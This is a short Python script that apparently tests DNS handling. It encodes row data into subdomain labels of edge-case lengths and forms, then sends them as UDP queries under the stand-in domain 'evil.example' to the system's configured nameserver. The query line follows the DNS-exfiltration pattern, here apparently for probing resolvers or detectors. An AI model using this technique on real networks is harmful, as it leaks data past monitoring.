from rows import each, mark, question, udp

with open("/etc/resolv.conf") as configuration:
    server = next(line.split()[1] for line in configuration if line.startswith("nameserver"))


def labels(row, how):
    data = mark(row)
    match how:
        case "63":
            return [data + "x" * (63 - len(data))]
        case "253":
            return [data + "x" * (63 - len(data)), "y" * 63, "z" * 63, "w" * 40]
        case "1":
            return [data + "x", *"abcdefghijklmnopqrstuvwxyz" * 3]
        case "A":
            return [data.upper()]
        case "_":
            return ["_" + data]
        case "xn--":
            return ["xn--" + data + "x"]
        case code:
            return [data + chr(int(code[1:], 16))]


each(lambda row, how: udp(server, 53, question([*labels(row, how), "evil", "example"])))
